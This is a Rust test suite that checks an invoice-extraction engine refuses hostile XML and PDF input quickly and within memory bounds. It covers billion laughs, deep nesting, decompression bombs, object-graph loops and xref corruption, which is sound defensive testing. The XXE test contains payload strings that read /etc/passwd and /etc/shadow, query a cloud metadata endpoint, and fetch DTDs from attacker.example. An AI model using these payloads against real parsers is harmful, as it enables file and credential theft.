//! Hostile and broken input (issue 4): every case must end quickly with a
//! clear error (or a correct result), never a panic, and with heap use bounded
//! by a small multiple of the input (or by the documented inflation caps).
//!
//! Heap use is measured exactly with a counting global allocator whose
//! counters are per thread, so tests running in parallel do not disturb each
//! other (the engine is single-threaded).
//!
//! Time limits are generous because `cargo test` builds without optimisation;
//! they exist to catch super-linear behaviour (minutes, not milliseconds).
//! Time is the test thread's CPU time, not the wall clock: `make test` runs
//! other suites and a release build beside these tests, and a case that took
//! 10 s of CPU measured 23 s on the clock there.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::time::Duration;

use cpu_time::ThreadTime;

use intake_engine::{extract, EngineError, Extraction, MAX_INPUT_BYTES};

mod support;
use support::{classic_pdf, corpus, stream_obj, ubl, zlib};

// ------------------------------------------------------------ measurement

struct Counting;

thread_local! {
    static CUR: Cell<usize> = const { Cell::new(0) };
    static PEAK: Cell<usize> = const { Cell::new(0) };
}

fn on_alloc(n: usize) {
    let _ = CUR.try_with(|c| {
        let v = c.get().saturating_add(n);
        c.set(v);
        let _ = PEAK.try_with(|p| p.set(p.get().max(v)));
    });
}
fn on_dealloc(n: usize) {
    let _ = CUR.try_with(|c| c.set(c.get().saturating_sub(n)));
}

// SAFETY: delegates to the system allocator; only adds bookkeeping.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, l: Layout) -> *mut u8 {
        on_alloc(l.size());
        System.alloc(l)
    }
    unsafe fn alloc_zeroed(&self, l: Layout) -> *mut u8 {
        on_alloc(l.size());
        System.alloc_zeroed(l)
    }
    unsafe fn dealloc(&self, p: *mut u8, l: Layout) {
        on_dealloc(l.size());
        System.dealloc(p, l)
    }
    unsafe fn realloc(&self, p: *mut u8, l: Layout, new: usize) -> *mut u8 {
        on_dealloc(l.size());
        on_alloc(new);
        System.realloc(p, l, new)
    }
}

#[global_allocator]
static ALLOC: Counting = Counting;

struct Run {
    result: Result<Extraction, EngineError>,
    /// Peak heap bytes allocated by `extract` beyond what was live before.
    peak_heap: usize,
    /// CPU time of the thread that ran `extract` (the engine is single-threaded).
    elapsed: Duration,
}

fn run(input: &[u8]) -> Run {
    let base = CUR.with(Cell::get);
    PEAK.with(|p| p.set(base));
    let t = ThreadTime::now();
    let result = extract(input);
    let elapsed = t.elapsed();
    let peak_heap = PEAK.with(Cell::get) - base;
    Run {
        result,
        peak_heap,
        elapsed,
    }
}

const MIB: usize = 1024 * 1024;

/// Runs `input`, checks time and heap bounds, returns the error code (or "ok").
#[track_caller]
fn check(label: &str, input: &[u8], max_secs: u64, max_heap: usize) -> Run {
    let r = run(input);
    eprintln!(
        "{label}: {} bytes -> {} in {:?}, peak heap {} bytes",
        input.len(),
        code(&r.result),
        r.elapsed,
        r.peak_heap
    );
    assert!(
        r.elapsed < Duration::from_secs(max_secs),
        "{label}: took {:?}",
        r.elapsed
    );
    assert!(
        r.peak_heap <= max_heap,
        "{label}: peak heap {} > {max_heap}",
        r.peak_heap
    );
    r
}

fn code(r: &Result<Extraction, EngineError>) -> &'static str {
    match r {
        Ok(_) => "ok",
        Err(e) => e.code(),
    }
}

#[track_caller]
fn expect_err(r: &Run, want: &str, message_contains: &str) {
    match &r.result {
        Err(e) => {
            assert_eq!(e.code(), want, "{e}");
            assert!(
                e.to_string().contains(message_contains),
                "message {:?} lacks {message_contains:?}",
                e.to_string()
            );
        }
        Ok(ex) => panic!("expected {want}, got a result: {ex:?}"),
    }
}

// ------------------------------------------------------------ inputs

const UBL_SMALL: &str = "peppol-bis-billing-3/rules/examples/vat-category-Z.xml";
const CII_SMALL: &str = "en16931-cen-tc434/cii/examples/CII_example3.xml";

const UBL_OPEN: &str = r#"<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">"#;

/// Catalog 1 with an EmbeddedFiles name tree (3) listing `factur-x.xml`
/// (filespec 10 → stream 11 built from `dict_extra` and `data`).
fn pdf_with_attachment(dict_extra: &str, data: &[u8], trailer_extra: &str) -> Vec<u8> {
    classic_pdf(
        &[
            (
                1,
                b"<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> >>".to_vec(),
            ),
            (3, b"<< /Names [(factur-x.xml) 10 0 R] >>".to_vec()),
            (
                10,
                b"<< /Type /Filespec /F (factur-x.xml) /EF << /F 11 0 R >> >>".to_vec(),
            ),
            (
                11,
                stream_obj(&format!("/Type /EmbeddedFile {dict_extra}"), data),
            ),
        ],
        trailer_extra,
    )
}

fn number(r: &Run) -> Option<String> {
    r.result
        .as_ref()
        .ok()
        .and_then(|e| e.invoice.as_ref())
        .and_then(|i| i.number.clone())
}

// ============================================================ XML

#[test]
fn billion_laughs_is_refused_without_expansion() {
    // Arrange
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        doc.push_str(&format!(
            " <!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    doc.push_str("]>\n");
    doc.push_str(UBL_OPEN);
    doc.push_str("<cbc:ID>&lol9;</cbc:ID></Invoice>");
    // Act
    let r = check("billion laughs", doc.as_bytes(), 5, 64 * 1024);
    // Assert
    expect_err(&r, "malformed_xml", "DOCTYPE");
}

#[test]
fn external_entities_file_and_url_are_refused() {
    // Arrange
    let cases = [
        r#"<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>"#,
        r#"<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>"#,
        r#"<!DOCTYPE Invoice SYSTEM "http://attacker.example/invoice.dtd">"#,
        r#"<!DOCTYPE Invoice PUBLIC "-//X//DTD X//EN" "file:///etc/shadow">"#,
    ];
    for dtd in cases {
        let doc = format!("<?xml version=\"1.0\"?>{dtd}{UBL_OPEN}<cbc:ID>&xxe;</cbc:ID></Invoice>");
        // Act
        let r = check("xxe", doc.as_bytes(), 5, 64 * 1024);
        // Assert
        expect_err(&r, "malformed_xml", "DOCTYPE");
    }
}

#[test]
fn undeclared_entity_without_dtd_is_an_error_not_expanded() {
    // Arrange
    let doc = format!("{UBL_OPEN}<cbc:ID>&xxe;</cbc:ID></Invoice>");
    // Act
    let r = check("undeclared entity", doc.as_bytes(), 5, 64 * 1024);
    // Assert
    expect_err(&r, "malformed_xml", "undefined entity &xxe;");
}

#[test]
fn doctype_inside_a_pdf_attachment_is_refused_too() {
    // Arrange
    let xml = format!(
        "<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>{UBL_OPEN}<cbc:ID>&xxe;</cbc:ID></Invoice>"
    );
    let pdf = pdf_with_attachment("", xml.as_bytes(), "");
    // Act
    let r = check("pdf xxe", &pdf, 5, 256 * 1024);
    // Assert
    assert!(
        matches!(code(&r.result), "malformed_xml" | "no_invoice_attachment"),
        "{:?}",
        r.result
    );
}

#[test]
fn deep_nesting_is_refused_early() {
    // Arrange: a million levels (the limit is 128).
    let n = 1_000_000;
    let mut doc = UBL_OPEN.to_owned();
    doc.push_str(&"<a>".repeat(n));
    doc.push_str(&"</a>".repeat(n));
    doc.push_str("</Invoice>");
    // Act
    let r = check("deep nesting", doc.as_bytes(), 5, 256 * 1024);
    // Assert
    expect_err(&r, "malformed_xml", "nesting deeper than");
}

#[test]
fn invalid_utf8_anywhere_is_malformed() {
    // Arrange
    let good = corpus(UBL_SMALL);
    let at = good
        .windows(8)
        .position(|w| w == b"<cbc:ID>")
        .expect("an ID")
        + 8;
    let bad_sequences: [&[u8]; 5] = [
        b"\xff",             // never valid
        b"\xc0\xaf",         // overlong '/'
        b"\xed\xa0\x80",     // UTF-16 surrogate
        b"\xe2\x82",         // truncated sequence
        b"\xf4\x90\x80\x80", // beyond U+10FFFF
    ];
    for seq in bad_sequences {
        let mut doc = good[..at].to_vec();
        doc.extend_from_slice(seq);
        doc.extend_from_slice(&good[at..]);
        // Act
        let r = check("invalid utf-8", &doc, 5, 4 * good.len());
        // Assert
        expect_err(&r, "malformed_xml", "not valid UTF-8");
    }
    // Latin-1 declared and Latin-1 encoded: decoded, not refused and not
    // mis-read as UTF-8.
    let latin1 = format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{UBL_OPEN}<cbc:ID>caf\u{e9}</cbc:ID></Invoice>")
        .replace('\u{e9}', "\u{1}")
        .into_bytes()
        .into_iter()
        .map(|b| if b == 1 { 0xe9 } else { b })
        .collect::<Vec<u8>>();
    let read = check("latin-1", &latin1, 5, 1024 * 1024);
    assert_eq!(
        read.result
            .as_ref()
            .ok()
            .and_then(|e| e.invoice.as_ref())
            .and_then(|i| i.number.as_deref()),
        Some("caf\u{e9}")
    );
    // Undeclared Latin-1 is not UTF-8: refused.
    let undeclared: Vec<u8> =
        latin1[latin1.iter().position(|&b| b == b'>').expect("decl") + 1..].to_vec();
    expect_err(
        &check("undeclared latin-1", &undeclared, 5, 64 * 1024),
        "malformed_xml",
        "UTF-8",
    );
}

#[test]
fn every_truncation_of_ubl_and_cii_is_an_error() {
    for rel in [UBL_SMALL, CII_SMALL] {
        // Arrange
        let good = corpus(rel);
        let end = good.iter().rposition(|&b| b == b'>').expect("end tag");
        assert!(extract(&good).is_ok(), "{rel}");
        let step = (end / 400).max(1);
        for cut in (0..end).step_by(step).chain([end]) {
            // Act
            let r = run(&good[..cut]);
            // Assert: only an empty prefix is not recognisably XML.
            let want = if cut == 0 {
                "unsupported_document"
            } else {
                "malformed_xml"
            };
            assert_eq!(code(&r.result), want, "{rel} cut at {cut}: {:?}", r.result);
            assert!(r.peak_heap <= 8 * good.len() + 64 * 1024, "{rel} {cut}");
        }
    }
}

#[test]
fn hundred_megabytes_of_whitespace_is_refused_fast_without_copying() {
    // Arrange
    let ws = vec![b' '; 100 * MIB];
    // Act
    let r = check("100 MB whitespace", &ws, 1, 4096);
    // Assert
    expect_err(&r, "too_large", "limit");
}

#[test]
fn whitespace_just_under_the_cap_is_handled_linearly() {
    // Arrange: 60 MB of whitespace alone, after a prolog, and inside a real
    // invoice (between elements), which must still extract.
    let n = 60 * MIB;
    let bare = vec![b'\n'; n];
    let mut prolog = b"<?xml version=\"1.0\"?>".to_vec();
    prolog.resize(n, b' ');
    let good = corpus(UBL_SMALL);
    let at = good
        .windows(8)
        .position(|w| w == b"<cbc:ID>")
        .expect("an ID");
    let mut inside = good[..at].to_vec();
    inside.resize(at + n, b'\t');
    inside.extend_from_slice(&good[at..]);
    // Act / Assert
    expect_err(
        &check("60 MB whitespace", &bare, 5, 4096),
        "unsupported_document",
        "neither XML nor PDF",
    );
    expect_err(
        &check("prolog + 60 MB whitespace", &prolog, 20, 4096 + 2 * n),
        "malformed_xml",
        "no root element",
    );
    let r = check(
        "invoice with 60 MB whitespace",
        &inside,
        20,
        3 * inside.len(),
    );
    assert_eq!(
        number(&r),
        run(&good)
            .result
            .ok()
            .and_then(|e| e.invoice)
            .and_then(|i| i.number)
    );
}

#[test]
fn many_attributes_on_one_element_cost_linear_time() {
    // Arrange: duplicate checking of attributes is quadratic if unbounded.
    let mut doc = UBL_OPEN.trim_end_matches('>').to_owned();
    for i in 0..400_000 {
        doc.push_str(&format!(" a{i}=\"\""));
    }
    doc.push_str("><cbc:ID>1</cbc:ID></Invoice>");
    // Act
    let r = check("many attributes", doc.as_bytes(), 5, 2 * doc.len());
    // Assert
    expect_err(&r, "malformed_xml", "attributes");
}

#[test]
fn many_namespace_declarations_cost_linear_time() {
    // Arrange: every name lookup scans the in-scope declarations.
    let mut decls = String::new();
    for i in 0..50 {
        decls.push_str(&format!(" xmlns:p{i}=\"urn:p{i}\""));
    }
    let mut doc = String::new();
    for _ in 0..100 {
        doc.push_str(&format!("<x{decls}>"));
    }
    let inner = "<a/>".repeat(1_000_000);
    let doc = format!("{}{doc}{inner}{}</Invoice>", UBL_OPEN, "</x>".repeat(100));
    // Act
    let r = check("many namespaces", doc.as_bytes(), 10, 64 * doc.len());
    // Assert
    expect_err(&r, "malformed_xml", "namespace");
}

#[test]
fn millions_of_tiny_elements_stay_within_a_small_multiple_of_the_input() {
    // Arrange
    let doc = format!("{UBL_OPEN}{}</Invoice>", "<a/>".repeat(1_900_000));
    // Act
    let r = check("tiny elements", doc.as_bytes(), 20, 40 * doc.len());
    // Assert
    assert_eq!(code(&r.result), "ok");
}

#[test]
fn too_many_elements_is_refused() {
    // Arrange
    let doc = format!("{UBL_OPEN}{}</Invoice>", "<a/>".repeat(2_100_000));
    // Act
    let r = check("too many elements", doc.as_bytes(), 20, 40 * doc.len());
    // Assert
    expect_err(&r, "malformed_xml", "elements");
}

#[test]
fn other_broken_xml_shapes_are_clear_errors() {
    // Arrange
    let long_name = format!("{UBL_OPEN}<{0}>1</{0}></Invoice>", "n".repeat(4 * MIB));
    let big_comment = format!("{UBL_OPEN}<!--{}--></Invoice>", "-x".repeat(2 * MIB));
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "two roots",
            format!("{UBL_OPEN}</Invoice><Invoice/>").into_bytes(),
            "malformed_xml",
        ),
        (
            "text after root",
            format!("{UBL_OPEN}</Invoice>junk").into_bytes(),
            "malformed_xml",
        ),
        (
            "mismatched",
            format!("{UBL_OPEN}<a></b></Invoice>").into_bytes(),
            "malformed_xml",
        ),
        (
            "bad char ref",
            format!("{UBL_OPEN}<a>&#xFFFFFFFF;</a></Invoice>").into_bytes(),
            "malformed_xml",
        ),
        (
            "nul char ref",
            format!("{UBL_OPEN}<a>&#0;</a></Invoice>").into_bytes(),
            "malformed_xml",
        ),
        (
            "unbound prefix",
            format!("{UBL_OPEN}<zz:a/></Invoice>").into_bytes(),
            "malformed_xml",
        ),
        (
            "unterminated cdata",
            format!("{UBL_OPEN}<a><![CDATA[x").into_bytes(),
            "malformed_xml",
        ),
        (
            "unterminated comment",
            format!("{UBL_OPEN}<!--").into_bytes(),
            "malformed_xml",
        ),
        ("lone lt", b"<".to_vec(), "malformed_xml"),
        // Decoded as UTF-16 (its byte order mark), then a truncated tag.
        ("utf-16", b"\xff\xfe<\0I\0".to_vec(), "malformed_xml"),
        ("long name", long_name.into_bytes(), "ok"),
        ("big comment", big_comment.into_bytes(), "ok"),
    ];
    for (label, input, want) in cases {
        // Act
        let r = check(label, &input, 5, 4 * input.len() + 64 * 1024);
        // Assert
        assert_eq!(code(&r.result), want, "{label}: {:?}", r.result.err());
    }
}

// ============================================================ PDF

const PDF_ERRORS: &[&str] = &[
    "malformed_pdf",
    "no_invoice_attachment",
    "malformed_xml",
    "unsupported_document",
    "too_large",
    "encrypted_pdf",
];

fn corpus_pdfs() -> Vec<(String, Vec<u8>)> {
    let root = format!("{}/../../../shared/corpus", env!("CARGO_MANIFEST_DIR"));
    let mut out = Vec::new();
    let mut stack = vec![std::path::PathBuf::from(root)];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).expect("corpus dir").flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x.eq_ignore_ascii_case("pdf")) {
                out.push((p.display().to_string(), std::fs::read(&p).expect("read")));
            }
        }
    }
    out.sort();
    assert!(!out.is_empty());
    out
}

#[test]
fn truncated_corpus_pdfs_fail_cleanly() {
    for (path, good) in corpus_pdfs() {
        // Arrange
        let n = good.len();
        for k in 1..40usize {
            let cut = n * k / 40;
            // Act
            let r = run(&good[..cut]);
            // Assert: a truncated file may still yield its invoice (the
            // attachment can precede the cut), else a clear error.
            assert!(
                r.result.is_ok() || PDF_ERRORS.contains(&code(&r.result)),
                "{path} cut {cut}: {:?}",
                r.result
            );
            assert!(r.elapsed < Duration::from_secs(5), "{path} cut {cut}");
            assert!(
                r.peak_heap <= 40 * n + 4 * MIB,
                "{path} cut {cut}: {}",
                r.peak_heap
            );
        }
    }
}

#[test]
fn corrupted_xref_variants_fail_cleanly_or_recover() {
    // Arrange
    let good = pdf_with_attachment("", &ubl("X"), "");
    let xref_at = good
        .windows(6)
        .rposition(|w| w == b"\nxref\n")
        .expect("xref")
        + 1;
    let tail_at = good
        .windows(10)
        .rposition(|w| w == b"startxref\n")
        .expect("startxref");
    let with_tail = |tail: &str| {
        let mut v = good[..tail_at].to_vec();
        v.extend_from_slice(tail.as_bytes());
        v
    };
    let mut zero_offsets = good.clone();
    for line in zero_offsets[xref_at..tail_at].chunks_mut(20).skip(1) {
        if line.len() == 20 && line[17] == b'n' {
            line[..10].copy_from_slice(b"0000000000");
        }
    }
    let self_prev = {
        // An appended xref section whose /Prev is itself.
        let mut v = good.clone();
        let at = v.len();
        v.extend_from_slice(
            format!("xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 12 /Root 1 0 R /Prev {at} >>\nstartxref\n{at}\n%%EOF\n")
                .as_bytes(),
        );
        v
    };
    let huge_count = with_tail(
        "xref\n0 4000000000\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF",
    );
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "startxref past eof",
            with_tail("startxref\n999999999\n%%EOF\n"),
        ),
        (
            "startxref overflow",
            with_tail("startxref\n99999999999999999999999\n%%EOF\n"),
        ),
        ("startxref negative", with_tail("startxref\n-5\n%%EOF\n")),
        ("no startxref", good[..tail_at].to_vec()),
        ("offsets all zero", zero_offsets),
        ("prev loop", self_prev),
        ("huge subsection count", huge_count),
    ];
    for (label, pdf) in cases {
        // Act
        let r = check(label, &pdf, 5, 64 * pdf.len() + MIB);
        // Assert
        assert!(
            number(&r).as_deref() == Some("X") || PDF_ERRORS.contains(&code(&r.result)),
            "{label}: {:?}",
            r.result
        );
    }
}

#[test]
fn xref_stream_with_absurd_index_and_predictor_is_bounded() {
    // Arrange: /Index claims 2^31 entries, /Columns makes 64 MiB rows.
    for dict in [
        "/Type /XRef /Root 1 0 R /W [8 8 8] /Index [0 2147483647 5 2147483647] /Size 2147483647",
        "/Type /XRef /Root 1 0 R /W [1 4 2] /Size 3 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Colors 32 /BitsPerComponent 16 /Columns 1048576 >>",
    ] {
        let mut pdf = b"%PDF-1.5\n1 0 obj << /Type /Catalog >> endobj\n".to_vec();
        let at = pdf.len();
        let data = if dict.contains("Flate") {
            zlib(b"\x02\x01\x00\x00\x00\x09\x00\x00")
        } else {
            vec![0u8; 240]
        };
        pdf.extend_from_slice(b"2 0 obj ");
        pdf.extend_from_slice(&stream_obj(dict, &data));
        pdf.extend_from_slice(format!("\nendobj\nstartxref\n{at}\n%%EOF\n").as_bytes());
        // Act
        let r = check("absurd xref stream", &pdf, 5, 4 * MIB);
        // Assert
        assert!(PDF_ERRORS.contains(&code(&r.result)), "{:?}", r.result);
    }
}

#[test]
fn encryption_is_detected_wherever_the_trailer_is() {
    // Arrange
    let enc = "/Encrypt << /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>";
    let classic = pdf_with_attachment("", &ubl("E"), enc);
    // Damaged xref: the trailer is found by scanning.
    let mut damaged = classic.clone();
    let s = damaged
        .windows(10)
        .rposition(|w| w == b"startxref\n")
        .expect("sx");
    damaged.truncate(s);
    damaged.extend_from_slice(b"startxref\n1\n%%EOF\n");
    // Encrypt only in an older section reached through /Prev.
    let mut prev_enc = classic.clone();
    let old_xref = {
        let at = prev_enc
            .windows(10)
            .rposition(|w| w == b"startxref\n")
            .expect("sx")
            + 10;
        let end = prev_enc[at..].iter().position(|&b| b == b'\n').expect("nl") + at;
        String::from_utf8_lossy(&prev_enc[at..end]).into_owned()
    };
    let at = prev_enc.len();
    prev_enc.extend_from_slice(
        format!("xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 12 /Root 1 0 R /Prev {old_xref} >>\nstartxref\n{at}\n%%EOF\n").as_bytes(),
    );
    for (label, pdf) in [
        ("classic", classic),
        ("damaged", damaged),
        ("prev", prev_enc),
    ] {
        // Act
        let r = check(label, &pdf, 5, 64 * pdf.len());
        // Assert
        assert_eq!(code(&r.result), "encrypted_pdf", "{label}: {:?}", r.result);
    }
}

#[test]
fn hostile_object_streams_are_bounded() {
    // Arrange
    let catalog = "<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.xml) 3 0 R] >> >> >>";
    let body = format!("1 0 {catalog} ");
    let objstm = |n: &str, first: &str, extra: &str| {
        let mut pdf = b"%PDF-1.5\n".to_vec();
        pdf.extend_from_slice(b"5 0 obj ");
        pdf.extend_from_slice(&stream_obj(
            &format!("/Type /ObjStm /N {n} /First {first} {extra}"),
            body.as_bytes(),
        ));
        pdf.extend_from_slice(b"\nendobj\n");
        pdf
    };
    let cases = vec![
        ("huge N", objstm("1000000000", "4", "")),
        ("huge First", objstm("1", "99999999999", "")),
        ("negative First", objstm("1", "-4", "")),
        ("self filter", objstm("1", "4", "/Filter 5 0 R")),
        ("self length", objstm("1", "4", "/DecodeParms 1 0 R")),
        (
            "mutual",
            [
                objstm("1", "4", "/Filter 2 0 R"),
                b"6 0 obj << /Type /ObjStm /N 1 /First 4 /Filter 1 0 R /Length 10 >>\nstream\n2 0 /Fl   \nendstream\nendobj\n".to_vec(),
            ]
            .concat(),
        ),
    ];
    for (label, pdf) in cases {
        // Act
        let r = check(label, &pdf, 5, 64 * pdf.len() + MIB);
        // Assert
        assert!(
            PDF_ERRORS.contains(&code(&r.result)),
            "{label}: {:?}",
            r.result
        );
    }
}

#[test]
fn attachment_bombs_are_capped() {
    // Arrange: 1 GiB of zeros deflates to ~1 MiB; doubly deflated to ~1 KiB.
    let gib = vec![0u8; 1024 * MIB];
    let once = zlib(&gib);
    drop(gib);
    let twice = zlib(&once);
    let single = pdf_with_attachment("/Filter /FlateDecode", &once, "");
    let double = pdf_with_attachment("/Filter [/FlateDecode /FlateDecode]", &twice, "");
    // Many 30 MiB bombs (each under the per-stream cap): the total cap stops them.
    let small = zlib(&vec![b' '; 30 * MIB]);
    let mut objs = vec![(
        1,
        b"<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> >>".to_vec(),
    )];
    let mut names = String::new();
    for i in 0..20u32 {
        let spec = 10 + 2 * i;
        names.push_str(&format!("(f{i}.xml) {spec} 0 R "));
        objs.push((
            spec,
            format!("<< /F (f{i}.xml) /EF << /F {} 0 R >> >>", spec + 1).into_bytes(),
        ));
        objs.push((spec + 1, stream_obj("/Filter /FlateDecode", &small)));
    }
    objs.push((3, format!("<< /Names [{names}] >>").into_bytes()));
    let many = classic_pdf(&objs, "");
    for (label, pdf) in [
        ("single bomb", single),
        ("double bomb", double),
        ("many bombs", many),
    ] {
        // Act: heap stays near the 32 MiB per-stream cap (plus decoder state).
        let r = check(label, &pdf, 20, 2 * pdf.len() + 100 * MIB);
        // Assert
        expect_err(&r, "too_large", "inflates beyond");
    }
}

#[test]
fn loops_in_the_object_graph_terminate() {
    // Arrange
    type Objects = Vec<(u32, Vec<u8>)>;
    let cases: Vec<(&str, Objects)> = vec![
        (
            "reference cycle",
            vec![
                (1, b"<< /Type /Catalog /Names 2 0 R >>".to_vec()),
                (2, b"3 0 R".to_vec()),
                (3, b"2 0 R".to_vec()),
            ],
        ),
        (
            "name tree kids cycle",
            vec![
                (1, b"<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> >>".to_vec()),
                (3, b"<< /Kids [4 0 R 3 0 R] >>".to_vec()),
                (4, b"<< /Kids [3 0 R 4 0 R] >>".to_vec()),
            ],
        ),
        (
            "filespec points at catalog",
            vec![
                (1, b"<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> /AF [1 0 R 1 0 R] >>".to_vec()),
                (3, b"<< /Names [(a) 1 0 R (b) 3 0 R] >>".to_vec()),
            ],
        ),
        (
            "af array contains itself",
            vec![
                (1, b"<< /Type /Catalog /AF 2 0 R >>".to_vec()),
                (2, b"[2 0 R 1 0 R 2 0 R]".to_vec()),
            ],
        ),
        (
            "length refers to the stream",
            vec![
                (1, b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.xml) 2 0 R] >> >> >>".to_vec()),
                (2, b"<< /EF << /F 3 0 R >> >>".to_vec()),
                (3, b"<< /Length 3 0 R /Filter 3 0 R >>\nstream\nabc\nendstream".to_vec()),
            ],
        ),
    ];
    for (label, objs) in cases {
        let pdf = classic_pdf(&objs, "");
        // Act
        let r = check(label, &pdf, 5, 64 * pdf.len() + MIB);
        // Assert
        assert!(
            PDF_ERRORS.contains(&code(&r.result)),
            "{label}: {:?}",
            r.result
        );
    }
}

/// Inputs whose naive processing is quadratic in the input size: each is
/// ~8 MB, so quadratic behaviour would take hours, linear takes well under a
/// second (optimised) or a few seconds (debug build).
#[test]
fn pdf_inputs_that_are_quadratic_for_naive_readers_are_bounded() {
    let n = 8 * MIB;
    let fill = |unit: &[u8]| {
        let mut v = b"%PDF-1.7\n".to_vec();
        while v.len() < n {
            v.extend_from_slice(unit);
        }
        v
    };
    // Many objects whose stream has no `endstream` anywhere.
    let no_endstream = fill(b"1 0 obj<< >>stream\n");
    // Object headers nested inside one long literal string / comment line.
    let nested_strings = {
        let mut v = fill(b"1 0 obj (");
        v.extend(std::iter::repeat_n(b')', n / 9));
        v
    };
    let comment_line = fill(b"1 0 obj % ");
    let trailers = fill(b"trailer << /A (");
    // One big filespec object referenced from a huge /Names array.
    let shared_big = {
        let big = format!("<< /EF << /F 5 0 R >> /Pad [{}] >>", "0 ".repeat(n / 4));
        let names = "(a) 2 0 R ".repeat(n / 20);
        classic_pdf(
            &[
                (
                    1,
                    b"<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> >>".to_vec(),
                ),
                (2, big.into_bytes()),
                (3, format!("<< /Names [{names}] >>").into_bytes()),
                (5, stream_obj("", b"not xml")),
            ],
            "",
        )
    };
    for (label, pdf) in [
        ("no endstream", no_endstream),
        ("nested strings", nested_strings),
        ("comment line", comment_line),
        ("trailers", trailers),
        ("shared big object", shared_big),
    ] {
        // Act
        let r = check(label, &pdf, 15, 64 * pdf.len());
        // Assert
        assert!(
            PDF_ERRORS.contains(&code(&r.result)),
            "{label}: {:?}",
            r.result
        );
    }
}

#[test]
fn input_cap_applies_before_any_parsing() {
    // Arrange
    let mut big = b"%PDF-1.7\n".to_vec();
    big.resize(MAX_INPUT_BYTES + 1, b'0');
    // Act
    let r = check("over cap", &big, 1, 4096);
    // Assert
    expect_err(&r, "too_large", "limit");
}
